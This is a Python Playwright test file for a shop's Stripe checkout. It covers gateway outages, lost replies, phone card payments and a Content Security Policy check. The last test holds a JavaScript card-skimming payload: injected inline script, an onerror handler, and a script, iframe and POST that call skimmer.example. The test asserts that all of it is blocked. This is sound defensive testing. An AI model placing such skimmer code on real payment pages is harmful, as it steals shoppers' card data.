"""Stripe out of reach, silent, or attacked, in a real browser: what the shopper reads, and that money moves once."""

import re
from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from gateways.cards.stripe import StripeGateway
from shop.payments import asking, ledger
from shop.payments.gateway import cards
from shop.payments.operations import open_operation
from tests.browser import wait_until_calm
from tests.journeys import stripe_steps as steps
from tests.journeys.stripe_steps import Till
from tests.servers import free_port

pytestmark = [pytest.mark.browser, pytest.mark.slow]
OpenPage = Callable[..., Page]


@pytest.mark.feature("PY-02")
def test_a_gateway_out_of_reach_takes_nothing_and_the_next_try_pays(till: Till, shopper: Page) -> None:
    there = cards()
    cards.plug(StripeGateway("sk_test_till", "pk_test_till", api_base=f"http://127.0.0.1:{free_port()}"))
    steps.pay(shopper, steps.GOOD)
    expect(shopper.get_by_text("We could not reach the payment service. Nothing was taken")).to_be_visible()
    number = steps.order().number
    assert not till.peer.books.rows["payment_intent"]
    cards.plug(there)
    steps.pay(shopper, steps.GOOD)
    expect(shopper.get_by_role("heading", name="Thank you, Nora")).to_be_visible()
    assert (steps.order().number, till.peer.held()) == (number, steps.order().total_minor)


@pytest.mark.feature("PY-04")
@pytest.mark.case("X-PY-03")
@pytest.mark.parametrize("fault", ["lost", "500_after"])
def test_without_an_answer_the_shopper_is_told_not_to_pay_again(
    till: Till, shopper: Page, fault: str
) -> None:
    till.peer.faults.add(fault)
    steps.pay(shopper, steps.GOOD)
    expect(shopper.get_by_role("heading", name="We are confirming your payment")).to_be_visible()
    expect(shopper.get_by_text("Please do not pay again")).to_be_visible()
    assert not shopper.locator("form#pay").count(), "there is no form to pay twice with"
    waiting = open_operation(steps.order())
    assert waiting is not None
    asking.resolve(waiting.ulid)
    shopper.get_by_role("link", name="Look again").click()
    expect(shopper.get_by_role("heading", name=re.compile("is paid"))).to_be_visible()
    assert till.peer.held() == steps.order().total_minor


@pytest.mark.feature("PY-09", "SH-13")
def test_a_card_by_phone_goes_to_stripe_alone(
    till: Till, browser_page: OpenPage, caplog: pytest.LogCaptureFixture
) -> None:
    page, blocked = browser_page(), list[str]()
    page.on("console", lambda told: blocked.append(told.text) if "Content Security" in told.text else None)
    steps.to_phone_card(till, page)
    steps.type_card(page, steps.CHALLENGED)  # by phone no bank asks
    page.get_by_role("button", name="Take this card").press("Enter")
    expect(page.locator("#ledger")).to_contain_text("by phone (MOTO)")
    assert till.peer.held() == 10_000
    assert [entry.by for entry in ledger.entries(steps.order())] == ["Ana"]
    assert blocked == []
    everywhere = "\n".join((*till.sent, caplog.text, steps.all_rows()))
    assert "ctoken_" in everywhere, "the search sees what is there"
    assert steps.CHALLENGED not in everywhere


SKIM = """() => {
  const script = document.createElement("script");
  script.textContent = "document.documentElement.dataset.skimmed = 'inline'";
  document.body.append(script);
  const foreign = document.createElement("script");
  foreign.src = "https://skimmer.example/skim.js";
  document.body.append(foreign);
  document.body.insertAdjacentHTML("beforeend", `<img src="x:" onerror="document.documentElement.dataset.skimmed = 1">`);
  const frame = document.createElement("iframe");
  frame.src = "https://skimmer.example/form";
  document.body.append(frame);
  return fetch("https://skimmer.example/take", { method: "POST", body: "4242" }).then(() => "sent", () => "refused");
}"""


SCRIPTS = "() => [...document.scripts].filter((each) => each.src && !each.src.includes('skimmer')).map((each) => new URL(each.src).origin)"


@pytest.mark.case("X-PY-30")
@pytest.mark.parametrize("place", ["checkout", "pay again", "card by phone"])
def test_nothing_that_is_slipped_into_a_page_with_a_card_field_runs(
    till: Till, browser_page: OpenPage, place: str
) -> None:
    page = till.welcome(browser_page(attacked=True))
    if place == "card by phone":
        steps.to_phone_card(till, page)
    else:
        steps.to_checkout(page)
    if place == "pay again":
        steps.pay(page, steps.POOR)
    steps.card_frame(page)
    wait_until_calm(page)
    reached: list[str] = []
    page.route("https://skimmer.example/**", lambda route: (reached.append(route.request.url), route.abort()))
    assert page.evaluate(SKIM) == "refused"
    wait_until_calm(page)
    assert page.evaluate("() => document.documentElement.dataset.skimmed ?? ''") == ""
    assert reached == []
    assert set(page.evaluate(SCRIPTS)) <= {till.live.url, "https://js.stripe.com"}, "no other script is there"
